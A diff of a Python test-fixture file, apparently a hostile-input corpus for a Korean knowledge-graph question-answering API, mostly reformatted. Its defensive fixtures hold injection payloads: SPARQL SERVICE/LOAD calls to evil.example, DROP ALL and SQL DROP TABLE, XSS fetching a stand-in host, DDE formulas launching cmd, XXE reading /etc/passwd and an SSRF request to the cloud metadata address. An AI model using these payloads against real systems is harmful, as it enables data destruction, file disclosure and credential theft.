@@ -80,42 +80,64 @@ def _deep_dict(depth: int) -> dict[str, object]:
 # -- strings: questions, cells, answer fields ---------------------------------------------------------------
 
 _INJECTION = [
-    Text("inj-service", "n_a1 } SERVICE <http://evil.example/sparql> { ?s ?p ?o } 에서 3-hop 안에 거래소에 닿나요?",
-         ("SERVICE", "evil.example")),
-    Text("inj-service-lower", "홍길동 } service <http://evil.example/q> { ?a ?b ?c } 회사는 어느 도시?",
-         ("service <", "evil.example")),
+    Text(
+        "inj-service",
+        "n_a1 } SERVICE <http://evil.example/sparql> { ?s ?p ?o } 에서 3-hop 안에 거래소에 닿나요?",
+        ("SERVICE", "evil.example"),
+    ),
+    Text(
+        "inj-service-lower",
+        "홍길동 } service <http://evil.example/q> { ?a ?b ?c } 회사는 어느 도시?",
+        ("service <", "evil.example"),
+    ),
     Text("inj-drop-all", 'n_a1"; DROP ALL; # 에서 3-hop 안에 거래소 입금주소에 닿나요?', ("DROP ALL",)),
     Text("inj-drop-quote2", "홍길동'; DROP GRAPH <urn:g>; # 이 다니는 회사는?", ("DROP GRAPH", "urn:g")),
     Text("inj-triple-close", "n_a1> . <urn:x> <urn:y> <urn:z 에서 거래소에 닿나요?", ("urn:x", "urn:y", "urn:z")),
-    Text("inj-triple-close-kg", "홍길동> . <urn:x> <urn:y> <urn:z 이 다니는 회사는 어느 도시에 있나요?",
-         ("urn:x", "urn:y", "urn:z")),
-    Text("inj-u0022", 'n_a1\\u0022 } INSERT DATA { <urn:a> <urn:b> <urn:c> } # 에서 닿나요?',
-         ("\\u0022", "INSERT DATA", "urn:a")),
-    Text("inj-u0022-real", 'n_a1\u0022 } INSERT DATA { <urn:a> <urn:b> "c" } # 에서 닿나요?',
-         ("INSERT DATA", "urn:a")),
+    Text(
+        "inj-triple-close-kg",
+        "홍길동> . <urn:x> <urn:y> <urn:z 이 다니는 회사는 어느 도시에 있나요?",
+        ("urn:x", "urn:y", "urn:z"),
+    ),
+    Text(
+        "inj-u0022",
+        "n_a1\\u0022 } INSERT DATA { <urn:a> <urn:b> <urn:c> } # 에서 닿나요?",
+        ("\\u0022", "INSERT DATA", "urn:a"),
+    ),
+    Text("inj-u0022-real", 'n_a1\u0022 } INSERT DATA { <urn:a> <urn:b> "c" } # 에서 닿나요?', ("INSERT DATA", "urn:a")),
     Text("inj-U0000003E", "n_a1\\U0000003E . <urn:evil> ?p ?o # 에서 닿나요?", ("\\U0000003E", "urn:evil")),
-    Text("inj-comment-hash", "n_a1 # } LIMIT 1 \n SELECT * WHERE { ?s ?p ?o } 에서 3-hop 닿나요?",
-         ("SELECT *", "?s ?p ?o")),
+    Text(
+        "inj-comment-hash",
+        "n_a1 # } LIMIT 1 \n SELECT * WHERE { ?s ?p ?o } 에서 3-hop 닿나요?",
+        ("SELECT *", "?s ?p ?o"),
+    ),
     Text("inj-comment-newline", "홍길동\n# comment\n} DELETE WHERE { ?s ?p ?o } 회사는?", ("DELETE WHERE",)),
-    Text("inj-load", "n_a1 LOAD <http://evil.example/data.ttl> INTO GRAPH <urn:g> 에서 닿나요?",
-         ("LOAD <", "evil.example")),
+    Text(
+        "inj-load",
+        "n_a1 LOAD <http://evil.example/data.ttl> INTO GRAPH <urn:g> 에서 닿나요?",
+        ("LOAD <", "evil.example"),
+    ),
     Text("inj-clear", "홍길동 CLEAR DEFAULT ; 이 다니는 회사는 어느 도시에 있나요?", ("CLEAR DEFAULT",)),
     Text("inj-from", "n_a1 FROM <http://evil.example/g> 에서 거래소에 닿나요?", ("FROM <", "evil.example")),
     Text("inj-graph", "홍길동 GRAPH ?g { ?s ?p ?o } 회사", ("GRAPH ?g",)),
     Text("inj-unbounded-path", "n_a1 ?x oc:transfer* ?y 에서 거래소에 닿나요?", ("oc:transfer*",)),
-    Text("inj-filter-regex", 'n_a1") || REGEX(?x, ".*") || ("', ('REGEX(?x',)),
+    Text("inj-filter-regex", 'n_a1") || REGEX(?x, ".*") || ("', ("REGEX(?x",)),
     Text("inj-values", "n_a1 } VALUES ?x { <urn:v1> } { 에서 닿나요?", ("urn:v1",)),
     Text("inj-bind", "홍길동 BIND(<urn:bind> AS ?x) 회사", ("urn:bind",)),
     Text("inj-prefix", "PREFIX ev: <http://evil.example/> n_a1 에서 닿나요?", ("PREFIX ev", "evil.example")),
     Text("inj-iri-brackets", "<http://evil.example/n_a1> 에서 3-hop 안에 거래소에 닿나요?", ("evil.example",)),
-    Text("inj-pages-service", "} SERVICE <http://evil.example/sparql> { ?s ?p ?o } 노출 100 이상 페이지",
-         ("SERVICE", "evil.example")),
+    Text(
+        "inj-pages-service",
+        "} SERVICE <http://evil.example/sparql> { ?s ?p ?o } 노출 100 이상 페이지",
+        ("SERVICE", "evil.example"),
+    ),
     Text("inj-pages-filter", "노출 >= 100) || true || (1 페이지", ("|| true",)),
     Text("inj-pages-literal", '클릭 = "0"^^<urn:dt> } INSERT { <urn:p> <urn:q> 1 } { 페이지', ("urn:dt", "INSERT {")),
     Text("inj-pages-url", "url = https://evil.example/'} DROP ALL 인 페이지", ("evil.example", "DROP ALL")),
     Text("inj-ask", "ASK { ?s ?p ?o }", ("ASK {",)),
     Text("inj-construct", "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }", ("CONSTRUCT",)),
-    Text("inj-semicolon-chain", "n_a1 ; INSERT DATA { <urn:s> <urn:p> <urn:o> } ; 에서 닿나요", ("INSERT DATA", "urn:s")),
+    Text(
+        "inj-semicolon-chain", "n_a1 ; INSERT DATA { <urn:s> <urn:p> <urn:o> } ; 에서 닿나요", ("INSERT DATA", "urn:s")
+    ),
     Text("inj-sql", "홍길동'); DROP TABLE users;-- 회사", ("DROP TABLE",)),
     Text("inj-jsonish", '{"question": "x", "domain": "../etc"} 노출 페이지', ('"domain"',)),
     # digits inside pasted code are not filter values
@@ -126,7 +148,7 @@ _INJECTION = [
     Text("code-assign-pages", "let limit = 50; clicks[0] = 9; 노출 클릭 페이지", ("limit",)),
     Text("code-assign-ran", "x[3] = 7; 노출 100 이상 페이지", ("x[3]",)),
     Text("xss-script", "<script>alert(1)</script> 홍길동이 다니는 회사는?", ("<script>",)),
-    Text("xss-img", '<img src=x onerror="fetch(\'//evil.example\')"> 노출 페이지', ("onerror", "evil.example")),
+    Text("xss-img", "<img src=x onerror=\"fetch('//evil.example')\"> 노출 페이지", ("onerror", "evil.example")),
 ]
 
 _PATHS_IN_TEXT = [
@@ -200,7 +222,7 @@ CELLS: list[Text] = [
     Text("csv-formula-tab", "\t=1+1"),
     Text("csv-formula-cr", "\r=1+1"),
     Text("csv-cr-inside", "a\rb"),
-    Text("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
+    Text("csv-dde", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
     Text("csv-sparql", '"; DROP ALL; # } SERVICE <http://evil.example/> { ?s ?p ?o }'),
     Text("csv-ntriples-break", '> . <urn:x> <urn:y> "z" .\n<urn:a> <urn:b> <urn:c'),
     Text("csv-u-escape", "\\u0022 \\U0000003E \\n"),
@@ -239,11 +261,18 @@ CSV_FILES: list[Raw] = [
     Raw("csvf-bare-cr", b"chunk_id,text\rch_11,x\rch_12,y\r", "kg_chunks.csv"),
     Raw("csvf-formula-edge-ids", b"node_id,class,label,aliases\n=cmd|' /C calc'!A0,Person,x,\n", "kg_nodes.csv"),
     Raw("csvf-pages-nan", b"url,impressions_30d,clicks_30d\nhttps://a.example/,NaN,Infinity\n", "pages.csv"),
-    Raw("csvf-pages-1e309", b"url,impressions_30d,clicks_30d\nhttps://a.example/,1e309,18446744073709551616\n",
-        "pages.csv"),
+    Raw(
+        "csvf-pages-1e309",
+        b"url,impressions_30d,clicks_30d\nhttps://a.example/,1e309,18446744073709551616\n",
+        "pages.csv",
+    ),
     Raw("csvf-pages-bad-url", b"url,impressions_30d\njavascript:alert(1),1\n../../etc/passwd,2\n", "pages.csv"),
-    Raw("csvf-onchain-2-64", b"edge_id,rel,from,to,tx_hash,value,token,block_number,timestamp\n"
-        b"e1,transfer,n_a1,n_h1,0xaa1,18446744073709551616,ETH,-1,NaN\n", "onchain_edges.csv"),
+    Raw(
+        "csvf-onchain-2-64",
+        b"edge_id,rel,from,to,tx_hash,value,token,block_number,timestamp\n"
+        b"e1,transfer,n_a1,n_h1,0xaa1,18446744073709551616,ETH,-1,NaN\n",
+        "onchain_edges.csv",
+    ),
     Raw("csvf-meta-deep", _deep_json(100_000), "meta.json"),
     Raw("csvf-meta-nan", b'{"as_of": NaN}', "meta.json"),
     Raw("csvf-meta-bad-utf8", b'{"as_of": "\xff"}', "meta.json"),
@@ -264,14 +293,25 @@ RDF_FILES: list[Raw] = [
     Raw("rdf-doctype-in-turtle", b'<!DOCTYPE x SYSTEM "file:///etc/passwd">\n<urn:a> <urn:b> <urn:c> .\n', ".ttl"),
     Raw("rdf-entity-lowercase", b'<!entity x "y">\n<urn:a> <urn:b> <urn:c> .\n', ".ttl"),
     Raw("rdf-xxe-jsonld", b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{"@id":"urn:a"}', ".jsonld"),
-    Raw("rdf-remote-context", b'{"@context": "http://evil.example/ctx.jsonld", "@id": "urn:a", "name": "x"}',
-        ".jsonld"),
-    Raw("rdf-remote-context-list", b'{"@context": [{"@vocab": "urn:v#"}, "https://evil.example/c"], "@id": "urn:a"}',
-        ".jsonld"),
-    Raw("rdf-remote-context-nested", b'{"@context": {"p": {"@id": "urn:p", "@context": "http://evil.example/n"}},'
-        b' "@id": "urn:a", "p": {"@id": "urn:b"}}', ".jsonld"),
-    Raw("rdf-remote-context-import", b'{"@context": {"@version": 1.1, "@import": "http://evil.example/imp"},'
-        b' "@id": "urn:a", "urn:p": "x"}', ".jsonld"),
+    Raw(
+        "rdf-remote-context", b'{"@context": "http://evil.example/ctx.jsonld", "@id": "urn:a", "name": "x"}', ".jsonld"
+    ),
+    Raw(
+        "rdf-remote-context-list",
+        b'{"@context": [{"@vocab": "urn:v#"}, "https://evil.example/c"], "@id": "urn:a"}',
+        ".jsonld",
+    ),
+    Raw(
+        "rdf-remote-context-nested",
+        b'{"@context": {"p": {"@id": "urn:p", "@context": "http://evil.example/n"}},'
+        b' "@id": "urn:a", "p": {"@id": "urn:b"}}',
+        ".jsonld",
+    ),
+    Raw(
+        "rdf-remote-context-import",
+        b'{"@context": {"@version": 1.1, "@import": "http://evil.example/imp"}, "@id": "urn:a", "urn:p": "x"}',
+        ".jsonld",
+    ),
     Raw("rdf-jsonld-deep", b"[" * 100_000 + b"]" * 100_000, ".jsonld"),
     Raw("rdf-jsonld-deep-obj", _deep_json(100_000), ".jsonld"),
     Raw("rdf-jsonld-nan", b'{"@id": "urn:a", "urn:p": NaN, "urn:q": 1e309}', ".jsonld"),
@@ -280,8 +320,7 @@ RDF_FILES: list[Raw] = [
     Raw("rdf-turtle-garbage", b"@prefix : <urn:> .\n:a :b ", ".ttl"),
     Raw("rdf-turtle-bad-iri", b"<urn:a> <urn:b> <not an iri with spaces> .\n", ".ttl"),
     Raw("rdf-turtle-deep-collection", b"<urn:a> <urn:b> " + b"(" * 50_000 + b" .\n", ".ttl"),
-    Raw("rdf-turtle-deep-bnode", b"<urn:a> <urn:b> " + b"[ <urn:p> " * 20_000 + b"1 .\n",
-        ".ttl"),
+    Raw("rdf-turtle-deep-bnode", b"<urn:a> <urn:b> " + b"[ <urn:p> " * 20_000 + b"1 .\n", ".ttl"),
     Raw("rdf-turtle-bad-utf8", b'<urn:a> <urn:b> "\xff\xfe\xfd" .\n', ".ttl"),
     Raw("rdf-turtle-prefix-file", b"@prefix x: <file:///etc/> .\n@base <http://evil.example/> .\n<a> x:passwd", ".ttl"),
     Raw("rdf-nt-partial-good", b'<urn:a> <urn:b> <urn:c> .\n<urn:d> <urn:e> "unterminated .\n', ".nt"),
@@ -298,8 +337,13 @@ RDF_FILES: list[Raw] = [
 # -- answers for verify_answer --------------------------------------------------------------------------------
 
 _ONCHAIN_OK = {
-    "q_id": "q_001", "intent": "path_exists", "answer_ko": "예", "path": [], "cited_nodes": [],
-    "confidence": "low", "grounding_ok": False,
+    "q_id": "q_001",
+    "intent": "path_exists",
+    "answer_ko": "예",
+    "path": [],
+    "cited_nodes": [],
+    "confidence": "low",
+    "grounding_ok": False,
     "generated_query": "SELECT ?s WHERE { ?s ?p ?o } LIMIT 1",
 }
 
@@ -309,47 +353,105 @@ ANSWERS: list[AnswerCase] = [
     AnswerCase("ans-none", None),
     AnswerCase("ans-int", 12345),
     AnswerCase("ans-json-text-bad", '{"q_id": '),
-    AnswerCase("ans-service", {**_ONCHAIN_OK, "generated_query":
-                               "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }"}),
+    AnswerCase(
+        "ans-service",
+        {**_ONCHAIN_OK, "generated_query": "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }"},
+    ),
     AnswerCase("ans-drop-all", {**_ONCHAIN_OK, "generated_query": "DROP ALL"}),
     AnswerCase("ans-insert", {**_ONCHAIN_OK, "generated_query": "INSERT DATA { <urn:x> <urn:y> <urn:z> }"}),
     AnswerCase("ans-load", {**_ONCHAIN_OK, "generated_query": "LOAD <http://evil.example/x.ttl>"}),
-    AnswerCase("ans-u0022", {**_ONCHAIN_OK, "generated_query":
-                             'SELECT ?s WHERE { ?s ?p "\\u0022 } ; DROP ALL ; #" }'}),
+    AnswerCase("ans-u0022", {**_ONCHAIN_OK, "generated_query": 'SELECT ?s WHERE { ?s ?p "\\u0022 } ; DROP ALL ; #" }'}),
     AnswerCase("ans-unbounded", {**_ONCHAIN_OK, "generated_query": "SELECT ?o WHERE { ?s (<urn:p>)* ?o }"}),
-    AnswerCase("ans-from", {**_ONCHAIN_OK, "generated_query": "SELECT ?s FROM <http://evil.example/g> WHERE { ?s ?p ?o }"}),
+    AnswerCase(
+        "ans-from", {**_ONCHAIN_OK, "generated_query": "SELECT ?s FROM <http://evil.example/g> WHERE { ?s ?p ?o }"}
+    ),
     AnswerCase("ans-query-10m", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE { ?s ?p ?o } #" + BIG_10M}),
     AnswerCase("ans-query-nul", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE { ?s ?p ?o }\x00 ; DROP ALL"}),
     AnswerCase("ans-deep-query", {**_ONCHAIN_OK, "generated_query": "SELECT ?s WHERE " + "{ " * 5000 + "}" * 5000}),
     AnswerCase("ans-nan", {**_ONCHAIN_OK, "confidence": float("nan"), "grounding_ok": float("inf")}),
-    AnswerCase("ans-2-64", {**_ONCHAIN_OK, "q_id": 2**64, "path": [{"edge_id": 2**64, "tx_hash": 1e309,
-                                                                        "from": None, "to": float("-inf")}]}),
-    AnswerCase("ans-path-traversal", {**_ONCHAIN_OK, "cited_nodes": ["../../etc/passwd", "/etc/shadow",
-                                                                     "%2e%2e/x", "a\x00b"]}),
+    AnswerCase(
+        "ans-2-64",
+        {
+            **_ONCHAIN_OK,
+            "q_id": 2**64,
+            "path": [{"edge_id": 2**64, "tx_hash": 1e309, "from": None, "to": float("-inf")}],
+        },
+    ),
+    AnswerCase(
+        "ans-path-traversal", {**_ONCHAIN_OK, "cited_nodes": ["../../etc/passwd", "/etc/shadow", "%2e%2e/x", "a\x00b"]}
+    ),
     AnswerCase("ans-deep-nesting", {**_ONCHAIN_OK, "path": [_deep_dict(5_000)]}),
     AnswerCase("ans-deep-list", {**_ONCHAIN_OK, "cited_nodes": _deep_dict(5_000)}),
     AnswerCase("ans-deep-lists", {**_ONCHAIN_OK, "cited_nodes": _deep_list(5_000)}),
-    AnswerCase("ans-huge-path", {**_ONCHAIN_OK, "path": [{"edge_id": f"e{i}", "tx_hash": None, "from": "n_a1",
-                                                          "to": "n_h1"} for i in range(2_000)]}),
-    AnswerCase("ans-over-items", {**_ONCHAIN_OK, "intent": "token_flow",
-                                  "cited_nodes": [f"n_{i}" for i in range(10_001)]}),
+    AnswerCase(
+        "ans-huge-path",
+        {
+            **_ONCHAIN_OK,
+            "path": [{"edge_id": f"e{i}", "tx_hash": None, "from": "n_a1", "to": "n_h1"} for i in range(2_000)],
+        },
+    ),
+    AnswerCase(
+        "ans-over-items", {**_ONCHAIN_OK, "intent": "token_flow", "cited_nodes": [f"n_{i}" for i in range(10_001)]}
+    ),
     AnswerCase("ans-bidi-ids", {**_ONCHAIN_OK, "cited_nodes": ["n_a1\u202e", "\u200bn_h1"]}),
-    AnswerCase("ans-hop-inject", {"query_id": "q", "decision": "answer", "answer": "c_acme> . <urn:x> <urn:y> <urn:z",
-                                  "path": [{"src": "p_hong\" } DROP ALL {", "rel": "worksFor> <urn:r",
-                                            "dst": "c_acme", "chunk_id": "../../etc/passwd"}],
-                                  "factors": [], "reason": "x" * 30, "evidence": "y" * 10, "hedge": None}),
-    AnswerCase("ans-page-inject", {"question": "노출 페이지", "status": "ran",
-                                   "parsed_filter": "impressions_30d >= 0) } SERVICE <http://evil.example/> { (",
-                                   "columns_used": ["impressions_30d> ?x . <urn:y"],
-                                   "matched": [{"url": "javascript:alert(1)", "evidence": "\x00"}],
-                                   "count": 2**64, "hedge": "\u202e"}),
-    AnswerCase("ans-page-nan-count", {"question": "노출 페이지", "status": "ran", "parsed_filter": "clicks_30d = NaN",
-                                      "columns_used": ["clicks_30d"], "matched": [], "count": float("nan"),
-                                      "hedge": "h"}),
+    AnswerCase(
+        "ans-hop-inject",
+        {
+            "query_id": "q",
+            "decision": "answer",
+            "answer": "c_acme> . <urn:x> <urn:y> <urn:z",
+            "path": [
+                {
+                    "src": 'p_hong" } DROP ALL {',
+                    "rel": "worksFor> <urn:r",
+                    "dst": "c_acme",
+                    "chunk_id": "../../etc/passwd",
+                }
+            ],
+            "factors": [],
+            "reason": "x" * 30,
+            "evidence": "y" * 10,
+            "hedge": None,
+        },
+    ),
+    AnswerCase(
+        "ans-page-inject",
+        {
+            "question": "노출 페이지",
+            "status": "ran",
+            "parsed_filter": "impressions_30d >= 0) } SERVICE <http://evil.example/> { (",
+            "columns_used": ["impressions_30d> ?x . <urn:y"],
+            "matched": [{"url": "javascript:alert(1)", "evidence": "\x00"}],
+            "count": 2**64,
+            "hedge": "\u202e",
+        },
+    ),
+    AnswerCase(
+        "ans-page-nan-count",
+        {
+            "question": "노출 페이지",
+            "status": "ran",
+            "parsed_filter": "clicks_30d = NaN",
+            "columns_used": ["clicks_30d"],
+            "matched": [],
+            "count": float("nan"),
+            "hedge": "h",
+        },
+    ),
     AnswerCase("ans-question-hostile", dict(_ONCHAIN_OK), question="n_a1 } SERVICE <http://evil.example/> { 닿나요?"),
     AnswerCase("ans-question-100k", dict(_ONCHAIN_OK), question=BIG_100K),
-    AnswerCase("ans-page-question-100k", {"question": BIG_100K, "status": "clarify", "parsed_filter": None,
-                                          "columns_used": [], "matched": [], "count": None, "hedge": "h"}),
+    AnswerCase(
+        "ans-page-question-100k",
+        {
+            "question": BIG_100K,
+            "status": "clarify",
+            "parsed_filter": None,
+            "columns_used": [],
+            "matched": [],
+            "count": None,
+            "hedge": "h",
+        },
+    ),
     AnswerCase("ans-question-nul", dict(_ONCHAIN_OK), question="\x00" * 10),
 ]
 
@@ -371,12 +473,19 @@ BODIES: list[BodyCase] = [
     BodyCase("http-nul-question", "/api/v1/ask", b'{"domain": "kg", "question": "\\u0000\\u0000"}'),
     BodyCase("http-lone-surrogate", "/api/v1/ask", b'{"domain": "kg", "question": "\\ud800 n_a1"}'),
     BodyCase("http-over-limit", "/api/v1/extract/text", b'{"text": "' + b"a" * (5 * 1024 * 1024) + b'"}'),
-    BodyCase("http-lying-length", "/api/v1/ask", b'{"domain": "kg", "question": "x"}',
-             extra={"Content-Length": "99999999999999999999"}),
+    BodyCase(
+        "http-lying-length",
+        "/api/v1/ask",
+        b'{"domain": "kg", "question": "x"}',
+        extra={"Content-Length": "99999999999999999999"},
+    ),
     BodyCase("http-wrong-ctype", "/api/v1/ask", b"domain=kg&question=x", "application/x-www-form-urlencoded"),
     BodyCase("http-extract-nul", "/api/v1/extract/text", b'{"text": "\\u0000\\u202e\\u200b"}'),
-    BodyCase("http-extract-text-file-url", "/api/v1/extract/text",
-             b'{"text": "\xed\x99\x8d\xea\xb8\xb8\xeb\x8f\x99", "url": "file:///etc/passwd"}'),
+    BodyCase(
+        "http-extract-text-file-url",
+        "/api/v1/extract/text",
+        b'{"text": "\xed\x99\x8d\xea\xb8\xb8\xeb\x8f\x99", "url": "file:///etc/passwd"}',
+    ),
     BodyCase("http-extract-domain-bad", "/api/v1/extract/text", b'{"text": "x", "domain": "} DROP ALL {"}'),
     BodyCase("http-extract-url-private", "/api/v1/extract/url", b'{"url": "http://169.254.169.254/latest/meta-data"}'),
     BodyCase("http-extract-url-file", "/api/v1/extract/url", b'{"url": "file:///etc/passwd"}'),
